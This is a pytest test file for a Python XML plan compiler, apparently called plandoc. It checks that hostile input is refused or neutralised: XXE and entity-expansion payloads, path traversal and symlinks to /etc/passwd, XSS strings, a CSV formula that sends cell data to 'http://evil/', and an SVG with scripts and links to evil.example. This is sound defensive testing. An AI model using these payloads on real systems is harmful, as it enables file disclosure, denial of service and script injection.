"""Hostile and broken input: each case gets a clear diagnostic (or is processed
correctly), never a traceback, never a read outside the plan, in bounded time."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from lxml import etree

from plandoc.pipeline import build, compile_plan

from plans import MINI, ROOT, mini_repo
import plans


def codes(plan_dir: Path) -> list[str]:
    return [d.code for d in compile_plan(plan_dir).diagnostics]


def put(plan: Path, rel: str, data: bytes | str) -> Path:
    path = plan / rel
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def chapter(body: str = "<p>正文。</p>", head: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<chapter id="ch-review"><title>砥砺前行</title>'
            f"{body}</chapter>\n")


@pytest.mark.parametrize("head, body", [
    ('<!DOCTYPE chapter [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "<p>&xxe;</p>"),
    ('<!DOCTYPE chapter [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n',
     "<p>&d;&d;&d;&d;&d;&d;&d;&d;</p>"),
    ('<!DOCTYPE chapter SYSTEM "http://127.0.0.1:9/evil.dtd">\n', "<p>正文。</p>"),
    ('<!DOCTYPE chapter PUBLIC "-//X//Y" "file:///etc/passwd">\n', "<p>正文。</p>"),
])
def test_entities_and_dtds_are_refused(mini_copy, head, body):
    put(mini_copy, "chapters/ch01.xml", chapter(body, head))
    t0 = time.perf_counter()
    found = codes(mini_copy)
    assert time.perf_counter() - t0 < 5
    assert "PD101" in found
    assert all(c in ("PD101", "PD201", "PD202", "PD350") for c in found), found


def test_include_processing_instruction_is_refused(mini_copy):
    put(mini_copy, "chapters/ch01.xml", chapter('<p>正文。<?xinclude href="/etc/passwd"?></p>'))
    assert "PD111" in codes(mini_copy)


def test_xinclude_elements_are_not_processed(mini_copy):
    put(mini_copy, "chapters/ch01.xml", chapter(
        '<p xmlns:xi="http://www.w3.org/2001/XInclude">正文<xi:include href="/etc/passwd" parse="text"/>。</p>'))
    compiled = compile_plan(mini_copy)
    assert "PD110" in [d.code for d in compiled.diagnostics]
    assert compiled.plan is not None
    from plandoc.export.plan_json import dumps
    assert "root:" not in dumps(compiled.plan)  # /etc/passwd was not read into the plan


@pytest.mark.parametrize("path", ["../../../../etc/passwd", "/etc/passwd", "http://127.0.0.1:9/x.xml",
                                  "file:///etc/passwd", "chapters/../../outside.xml", "C:/x.xml"])
def test_manifest_paths_outside_the_plan(mini_copy, path):
    plan_xml = mini_copy / "plan.xml"
    plan_xml.write_text(plan_xml.read_text(encoding="utf-8").replace(
        'chapters/ch01.xml"/>', f'chapters/ch01.xml"/>\n    <chapter file="{path}"/>'), encoding="utf-8")
    assert codes(mini_copy) == ["PD002"]


@pytest.mark.parametrize("src", ["../../../etc/passwd", "/etc/passwd", "http://127.0.0.1:9/x.png"])
def test_figure_paths_outside_the_plan(mini_copy, src):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace('<figure id="fig-map">', f'<figure id="fig-map" src="{src}">'),
                  encoding="utf-8")
    assert codes(mini_copy) == ["PD221"]


def test_symlinked_figure_outside_is_refused(mini_copy, tmp_path):
    secret = tmp_path / "secret.svg"
    secret.write_text("<svg/>", encoding="utf-8")
    (mini_copy / "figures" / "fig-map.svg").unlink()
    (mini_copy / "figures" / "fig-map.svg").symlink_to(secret)
    assert codes(mini_copy) == ["PD220"]


def test_invalid_utf8(mini_copy):
    put(mini_copy, "chapters/ch01.xml", chapter().encode("utf-8").replace("正文".encode(), b"\xff\xfe"))
    assert codes(mini_copy) == ["PD005"]


def test_nul_byte(mini_copy):
    put(mini_copy, "chapters/ch01.xml", chapter().replace("正文", "正\x00文"))
    assert codes(mini_copy) == ["PD005"]


def test_bom_and_crlf_are_fine_and_lines_stay_right(mini_copy):
    text = (MINI / "chapters" / "ch01.xml").read_text(encoding="utf-8").replace('<ref to="col-main"/>', '<ref to="col-x"/>')
    put(mini_copy, "chapters/ch01.xml", b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))
    diags = compile_plan(mini_copy).diagnostics
    assert [(d.code, d.line) for d in diags if d.code == "PD201"] == [("PD201", 4)]


def test_huge_file_is_refused_quickly(mini_copy):
    path = mini_copy / "chapters" / "ch01.xml"
    with open(path, "wb") as f:
        f.write(chapter().encode("utf-8")[:-12])
        f.write(b"<p>" + "数".encode() * (50 * 1024 * 1024 // 3) + b"</p></chapter>\n")
    t0 = time.perf_counter()
    assert codes(mini_copy) == ["PD005"]
    assert time.perf_counter() - t0 < 5


def test_deep_nesting_is_bounded(mini_copy):
    body = "<p>" + "<em>" * 10000 + "深" + "</em>" * 10000 + "</p>"
    put(mini_copy, "chapters/ch01.xml", chapter(body))
    t0 = time.perf_counter()
    found = codes(mini_copy)
    assert time.perf_counter() - t0 < 5
    assert found[0] == "PD100"


def test_id_with_spaces(mini_copy):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace('id="ch-review"', 'id="ch review"'), encoding="utf-8")
    assert "PD110" in codes(mini_copy)


def test_ten_thousand_chapters(tmp_path):
    plan = tmp_path / "plan"
    (plan / "chapters").mkdir(parents=True)
    listing = []
    for i in range(10000):
        (plan / "chapters" / f"c{i:05}.xml").write_text(
            f'<chapter id="ch-{i}"><title>第 {i} 章</title><p>正文{i}。</p></chapter>', encoding="utf-8")
        listing.append(f'<chapter file="chapters/c{i:05}.xml"/>')
    (plan / "plan.xml").write_text(
        '<plan id="big"><meta><title>大</title><issuer>某</issuer><period from="2021" to="2025"/></meta>'
        f'<part id="pt-a"><title>篇</title>{"".join(listing)}</part></plan>', encoding="utf-8")
    t0 = time.perf_counter()
    compiled = compile_plan(plan)
    assert time.perf_counter() - t0 < 60
    assert compiled.ok, compiled.diagnostics[:3]
    assert compiled.plan.chapters[9998].label == "第九千九百九十九章"
    assert compiled.plan.chapters[-1].label == "第一万章"
    assert len(compiled.plan.chapters) == 10000


def test_hostile_text_is_escaped_in_json_and_site(mini_copy, tmp_path):
    ch = mini_copy / "chapters" / "ch01.xml"
    evil = '&lt;script&gt;alert(1)&lt;/script&gt;"&gt;&lt;img src=x onerror=alert(1)&gt;'
    ch.write_text(ch.read_text(encoding="utf-8").replace("坚持。", f"坚持{evil}。"), encoding="utf-8")
    compiled = compile_plan(mini_copy)
    build(compiled.plan, tmp_path / "out", ["json", "html"])
    for page in (tmp_path / "out" / "site").rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(1)</script>" not in html
        assert "<img src=x onerror" not in html
    assert "<script>alert(1)</script>" in (tmp_path / "out" / "plan.json").read_text(encoding="utf-8")


def test_huge_spans_are_refused_quickly(mini_copy):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace('<th colspan="2">指标名称</th>',
                                                          '<th colspan="2000000000">指标名称</th>'), encoding="utf-8")
    t0 = time.perf_counter()
    assert "PD110" in codes(mini_copy)
    assert time.perf_counter() - t0 < 5


# ---- second pass (issue 13): the holes a red team found


def test_plan_xml_symlinked_out_of_the_plan_is_never_opened(mini_copy, tmp_path):
    """plan.xml itself is resolved inside the plan: a link to another plan, or to
    /etc/passwd, is refused before it is read, and the message quotes nothing of it."""
    secret = tmp_path / "secret.xml"
    secret.write_text("root:x:0:0:机密\n", encoding="utf-8")
    (mini_copy / "plan.xml").unlink()
    (mini_copy / "plan.xml").symlink_to(secret)
    diags = compile_plan(mini_copy).diagnostics
    assert [d.code for d in diags] == ["PD002"]
    assert "root" not in diags[0].message and "机密" not in diags[0].message
    other = tmp_path / "other"
    shutil.copytree(MINI, other)
    (mini_copy / "plan.xml").unlink()
    (mini_copy / "plan.xml").symlink_to(other / "plan.xml")
    assert codes(mini_copy) == ["PD002"]


def test_files_reached_through_a_symlinked_directory_are_refused(mini_copy, tmp_path):
    outside = tmp_path / "elsewhere"
    shutil.move(mini_copy / "chapters", outside)
    (mini_copy / "chapters").symlink_to(outside)
    assert "PD002" in codes(mini_copy)


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "GBK", "utf-16", "US-ASCII"])
def test_an_encoding_declaration_other_than_utf8_is_an_error(mini_copy, encoding):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace("UTF-8", encoding, 1), encoding="utf-8")
    diags = compile_plan(mini_copy).diagnostics
    assert [(d.code, d.line, d.column) for d in diags] == [("PD006", 1, 31)]


def test_fmt_never_rewrites_a_file_it_cannot_read_faithfully(mini_copy):
    """A mis-declared encoding would be written back as mojibake; a DOCTYPE would be
    dropped with its entities left undefined: fmt reports both and leaves the bytes."""
    from plandoc.fmt import fmt
    ch, ind = mini_copy / "chapters" / "ch01.xml", mini_copy / "indicators.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace("UTF-8", "ISO-8859-1", 1) + "  ", encoding="utf-8")
    text = ind.read_text(encoding="utf-8")
    ind.write_text(text.replace("<indicators", '<!DOCTYPE indicators [<!ENTITY x "某">]>\n<indicators', 1)
                   .replace("</indicators>", "<!-- &x; --></indicators>  "), encoding="utf-8")
    before = {p: p.read_bytes() for p in (ch, ind)}
    outcomes = {o.path.name: o for o in fmt(mini_copy)}
    assert "PD006" in outcomes["ch01.xml"].error and "PD101" in outcomes["indicators.xml"].error
    assert all(p.read_bytes() == data for p, data in before.items())


def test_bad_utf8_column_counts_characters(mini_copy):
    put(mini_copy, "chapters/ch01.xml", chapter().encode("utf-8").replace("正文".encode(), "正".encode() + b"\xff"))
    (d,) = compile_plan(mini_copy).diagnostics
    line = chapter().splitlines()[d.line - 1]
    assert line[d.column - 1] == "文"  # the bad byte stands where 文 was, after 正


def _nested(depth: int) -> str:
    return "<p>" + "<em>" * depth + "深" + "</em>" * depth + "。</p>"


def test_nesting_past_the_limit_is_refused_before_any_renderer(mini_copy):
    from plandoc.load import MAX_DEPTH
    put(mini_copy, "chapters/ch01.xml", chapter(_nested(250)))
    assert codes(mini_copy) == ["PD120"]
    put(mini_copy, "chapters/ch01.xml", chapter(_nested(MAX_DEPTH)))
    assert codes(mini_copy) == ["PD120"]  # chapter and p take two levels more


def test_every_renderer_renders_the_deepest_nesting_check_accepts(mini_copy, tmp_path):
    from plandoc.load import MAX_DEPTH
    ch = mini_copy / "chapters" / "ch01.xml"
    deep = "<em>" * (MAX_DEPTH - 4) + "深" + "</em>" * (MAX_DEPTH - 4)
    ch.write_text(ch.read_text(encoding="utf-8").replace("坚持。", f"坚持{deep}。"), encoding="utf-8")
    compiled = compile_plan(mini_copy)
    assert compiled.ok and compiled.diagnostics == ()
    written = build(compiled.plan, tmp_path / "out", ["json", "csv", "xlsx", "html", "pdf"])
    assert {p.name for p in written} >= {"plan.json", "indicators.csv", "indicators.xlsx", "plan.pdf"}
    page = (tmp_path / "out" / "site" / "chapters" / "ch-review.html").read_text(encoding="utf-8")
    (tags,) = re.findall(r"((?:<[a-z]+>)+)深", page)
    assert tags.count("<") == MAX_DEPTH - 4


@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-Infinity", "1e309", "[inf]"])
def test_non_finite_values_are_errors(mini_copy, value):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace("<v>3000</v>", f"<v>{value}</v>"), encoding="utf-8")
    compiled = compile_plan(mini_copy)
    assert [d.code for d in compiled.diagnostics] == ["PD121"] and not compiled.ok


def test_an_empty_value_cell_is_a_note_and_a_dash_is_not(mini_copy):
    ch = mini_copy / "chapters" / "ch01.xml"
    text = ch.read_text(encoding="utf-8")
    ch.write_text(text.replace("<v>3000</v>", "<v> </v>"), encoding="utf-8")
    compiled = compile_plan(mini_copy)
    assert [(d.code, d.severity.value) for d in compiled.diagnostics] == [("PD122", "note")] and compiled.ok
    ch.write_text(text.replace("<v>3000</v>", "<v>-</v>"), encoding="utf-8")
    assert codes(mini_copy) == []


@pytest.mark.parametrize("char", [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]])
def test_bidi_controls_are_linted_wherever_they_are(mini_copy, char):
    ind = mini_copy / "indicators.xml"  # in a comment: no check of the model would see it
    ind.write_text(ind.read_text(encoding="utf-8").replace("</indicators>", f"<!-- 审{char}阅 --></indicators>"),
                   encoding="utf-8")
    diags = compile_plan(mini_copy).diagnostics
    assert [d.code for d in diags] == ["PD367"]
    line = ind.read_text(encoding="utf-8").splitlines()[diags[0].line - 1]
    assert line[diags[0].column - 1] == char


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../etc/passwd"])
def test_diff_of_a_revision_with_a_symlink_out_of_the_plan_is_a_diagnostic(tmp_path, target):
    repo, git = mini_repo(tmp_path, "v1")
    (repo / "plan" / "chapters" / "ch01.xml").unlink()
    (repo / "plan" / "chapters" / "ch01.xml").symlink_to(target)
    subprocess.run([*git, "commit", "-qam", "v2"], check=True)
    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "diff", "HEAD~1", "HEAD"],
                       capture_output=True, text=True, cwd=repo)
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr and "root:" not in r.stderr + r.stdout
    assert "HEAD:plan/chapters/ch01.xml: error[PD002]" in r.stdout + r.stderr


def test_csv_neutralises_formulas_and_keeps_numbers(mini_copy, tmp_path):
    import csv
    ind = mini_copy / "indicators.xml"
    ind.write_text(ind.read_text(encoding="utf-8").replace(
        "<name>地区生产总值</name>", '<name>=HYPERLINK("http://evil/?"&amp;A1,"x")</name>'), encoding="utf-8")
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace("<v>3000</v>", "<v>@SUM(1)</v>")
                  .replace("<v>2107.7</v>", "<v>-33</v>").replace("<v>54</v>", "<v>-</v>"), encoding="utf-8")
    compiled = compile_plan(mini_copy)
    build(compiled.plan, tmp_path / "out", ["csv"])
    with open(tmp_path / "out" / "indicators.csv", encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in cells and "'@SUM(1)" in cells
    assert "-33" in cells and "-" in cells
    assert not any(c[:1] in "=+@\t\r" and c != "+" for c in cells if c)
    assert not any(c.startswith("-") and c not in ("-", "-33") for c in cells)


def test_out_refuses_a_directory_that_is_not_a_previous_output(tmp_path):
    from plandoc.publish import STAMP
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / "notes.txt").write_text("私人笔记", encoding="utf-8")
    inode = home.stat().st_ino
    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--plan", str(MINI), "--out", str(home),
                        "--format", "json"], capture_output=True, text=True)
    assert r.returncode == 2 and "Traceback" not in r.stderr and STAMP in r.stderr
    assert home.stat().st_ino == inode and sorted(p.name for p in home.iterdir()) == [".ssh", "notes.txt"]
    compiled = compile_plan(MINI)  # the library refuses too, not only the command line
    with pytest.raises(FileExistsError):
        build(compiled.plan, home, ["json"])
    out = tmp_path / "out"  # a previous output (stamped) is rebuilt; an empty directory is fine
    out.mkdir()
    for _ in range(2):
        r = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--plan", str(MINI), "--out", str(out),
                            "--format", "json"], capture_output=True, text=True)
        assert r.returncode == 0, r.stderr
    assert (out / STAMP).is_file() and (out / "plan.json").is_file()


def _png(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG header for any size; the pixel data is a real one only when small."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    if idat is None:
        idat = zlib.compress(b"".join(b"\x00" + b"\x80\x80\x80" * width for _ in range(height)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def _gif() -> bytes:
    import io

    from PIL import Image
    buf = io.BytesIO()
    Image.new("P", (4, 4)).save(buf, "GIF")
    return buf.getvalue()


def _with_image(plan: Path, name: str, data: bytes) -> list:
    (plan / "figures" / "fig-map.svg").unlink()
    (plan / "figures" / name).write_bytes(data)
    return compile_plan(plan).diagnostics


@pytest.mark.parametrize("name, data, says", [
    ("fig-map.png", _png(40, 30)[:-30], "损坏"),                      # truncated: no IEND, short IDAT
    ("fig-map.png", b"\xff\xd8\xff\xe0" + b"\x00" * 200, "损坏"),      # JPEG magic, nothing behind it
    ("fig-map.png", _gif(), "GIF"),                                     # not what its name says
    ("fig-map.jpg", _png(4, 4), "PNG"),
    ("fig-map.png", _png(12000, 12000, idat=b"x\x9c\x03\x00"), "12000×12000"),  # a few bytes, 144 Mpx
    ("fig-map.png", _png(60000, 60000, idat=b"x\x9c\x03\x00"), "像素过多"),     # past Pillow's own limit
    ("fig-map.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "SVG"),
    ("fig-map.svg", b'<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', "SVG"),
])
def test_unusable_images_are_refused_at_load(mini_copy, name, data, says):
    t0 = time.perf_counter()
    diags = _with_image(mini_copy, name, data)
    assert time.perf_counter() - t0 < 5
    assert [d.code for d in diags] == ["PD230"] and says in diags[0].message
    assert diags[0].file.endswith("chapters/ch01.xml") and diags[0].line > 0


def test_a_sound_raster_image_passes(mini_copy, tmp_path):
    assert _with_image(mini_copy, "fig-map.png", _png(40, 30)) == ()
    compiled = compile_plan(mini_copy)
    build(compiled.plan, tmp_path / "out", ["html"])
    assert (tmp_path / "out" / "site" / "media" / "figures" / "fig-map.png").read_bytes() == _png(40, 30)


EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>alert(2)</script><rect width="10" height="10" onclick="alert(3)" style="fill:url(http://evil.example/a)"/>
<image xlink:href="http://evil.example/track.png" width="5" height="5"/><use href="#r"/>
<a href=" javascript:alert(4)"><text>链接</text></a><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
<style>@import url(http://evil.example/x.css);</style><rect id="r" width="3" height="3" fill="#336"/></svg>""".encode("utf-8")


def test_svg_active_content_is_reported_and_never_published(mini_copy, tmp_path):
    diags = _with_image(mini_copy, "fig-map.svg", EVIL_SVG)
    assert [(d.code, d.severity.value) for d in diags] == [("PD231", "warning")]
    compiled = compile_plan(mini_copy)
    build(compiled.plan, tmp_path / "out", ["html"])
    (published,) = (tmp_path / "out" / "site").rglob("fig-map.svg")
    text = published.read_text(encoding="utf-8")
    for bad in ("<script", "onload", "onclick", "evil.example", "javascript", "foreignObject", "@import"):
        assert bad not in text, bad
    assert 'href="#r"' in text and 'id="r"' in text and "链接" in text  # the drawing itself stays


def test_import_reports_every_character_xml_cannot_hold(tmp_path):
    """The red team's input: control characters and NUL in a plain-text plan reach no
    lxml ValueError; each one is a finding with its line and column, and the written
    XML is well-formed."""
    from plandoc.importer import run
    text = tmp_path / "t.txt"
    text.write_bytes("永州\n第一章 总则\n\x01\x00坚持。\x0c\x1b\n".encode("utf-8") + "\ufffe尾。\n".encode("utf-8"))
    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "import", str(text), "--out", str(tmp_path / "out")],
                       capture_output=True, text=True)
    assert "Traceback" not in r.stderr and r.returncode in (0, 1), r.stderr
    result = run(text, tmp_path / "out2")
    found = [(f.lines, f.message) for f in result.findings if f.kind == "control-char"]
    assert found == [((3,), "U+0001 at column 1 removed"), ((3,), "U+0000 at column 2 removed"),
                     ((3,), "U+000C at column 6 removed"), ((3,), "U+001B at column 7 removed"),
                     ((4,), "U+FFFE at column 1 removed")]
    for path in result.files:
        etree.parse(str(path))  # well-formed
    assert "\x00" not in (tmp_path / "out2" / "import-report.md").read_text(encoding="utf-8")


def test_an_image_format_plandoc_does_not_publish_is_refused(mini_copy):
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace('<figure id="fig-map">', '<figure id="fig-map" src="figures/map.gif">'),
                  encoding="utf-8")
    (mini_copy / "figures" / "map.gif").write_bytes(_gif())
    diags = compile_plan(mini_copy).diagnostics
    assert [d.code for d in diags] == ["PD230"] and ".gif" in diags[0].message


@pytest.mark.parametrize("name", ["fig-map.png", "fig-map.jpg", "fig-map.webp"])
def test_truncated_images_are_refused_even_where_pillow_tolerates_them(mini_copy, monkeypatch, name):
    """WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process (serve's PDF
    worker imports it): the check must not depend on that flag."""
    import io

    from PIL import Image, ImageFile
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    buf = io.BytesIO()
    Image.effect_noise((64, 64), 40).convert("RGB").save(buf, {"png": "PNG", "jpg": "JPEG", "webp": "WEBP"}[name[8:]])
    assert _with_image(mini_copy, name, buf.getvalue()) == ()
    (mini_copy / "figures" / name).write_bytes(buf.getvalue()[: len(buf.getvalue()) * 2 // 3])
    diags = compile_plan(mini_copy).diagnostics
    assert [d.code for d in diags] == ["PD230"] and "损坏" in diags[0].message


def test_huge_paragraphs_are_not_kept_in_the_check_caches(mini_copy):
    """serve recompiles on every edit: the per-paragraph memo of the text checks must not
    keep megabyte paragraphs (the importer fuzzer grew to 4.7 GB before this)."""
    from plandoc.pipeline import Memo
    memo = Memo()
    compile_plan(mini_copy, memo)
    before = memo.text.sizes()
    assert before["_long_sentences"] and before["_unbalanced"]
    ch = mini_copy / "chapters" / "ch01.xml"
    ch.write_text(ch.read_text(encoding="utf-8").replace("坚持。", "坚持" + "很长的一句话，" * 100000 + "。"),
                  encoding="utf-8")
    compile_plan(mini_copy, memo)
    assert memo.text.sizes() == before


def test_import_of_a_paragraph_xml_cannot_hold_is_refused_cleanly(tmp_path):
    """A paragraph past libxml2's 10 MB text-node limit cannot become a plan file: the
    command says so and exits 2 (the importer fuzzer found the traceback)."""
    lines = plans.SEED.read_text(encoding="utf-8").split("\n")
    lines = lines[:300] + lines[1945:]
    lines[219] *= 20000  # a paragraph of the first chapter, 3.7 million characters (11 MB)
    text = tmp_path / "t.txt"
    text.write_text("\n".join(lines), encoding="utf-8")
    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "import", str(text), "--out", str(tmp_path / "out")],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "过长" in r.stderr, r.stderr[-500:]


def test_columns_of_many_elements_on_one_line(tmp_path):
    """A long line full of markup (what the importer fuzzer writes): every start tag's
    column is found, in one scan of the line (finding the n-th from the line's start
    was quadratic: 8 000 elements on a line took 4.7 s, now 7 ms)."""
    import re as _re

    from lxml import etree as _etree

    from plandoc.load import SourceFile

    line = "<chapter id='c'><p>" + "".join(
        f"<em>{i}</em><sub>x</sub>" if i % 3 else f"<em>{i}<em>y</em></em>" for i in range(3000)) + "</p></chapter>"
    tree = _etree.ElementTree(_etree.fromstring(line))
    src = SourceFile(rel="x.xml", display="x.xml", kind="chapter", tree=tree, lines=[line])
    for tag in ("em", "sub", "p"):
        expected = [m.start() + 1 for m in _re.finditer(f"<{tag}[ >]", line)]
        assert [src.locate(el) for el in tree.getroot().iter(tag)] == [(1, c) for c in expected]


def test_many_schema_errors_on_one_line_each_get_their_element():
    """Hundreds of invalid elements on one line: one PD110 each, at its own column (each
    error found its element by walking the whole tree and skipping those explained:
    quadratic, 4 000 errors took 35 s, now under 0.1 s)."""
    import re as _re

    from lxml import etree as _etree

    from plandoc.load import SourceFile
    from plandoc.validate import validate_file

    line = "<chapter id='c'><title>t</title>" + "<p bad='1'>x</p>" * 600 + "</chapter>"
    src = SourceFile(rel="x.xml", display="x.xml", kind="chapter",
                     tree=_etree.ElementTree(_etree.fromstring(line)), lines=[line])
    found = validate_file(src)
    assert [(d.code, d.line, d.column) for d in found] == \
        [("PD110", 1, m.start() + 1) for m in _re.finditer(r"bad=", line)]
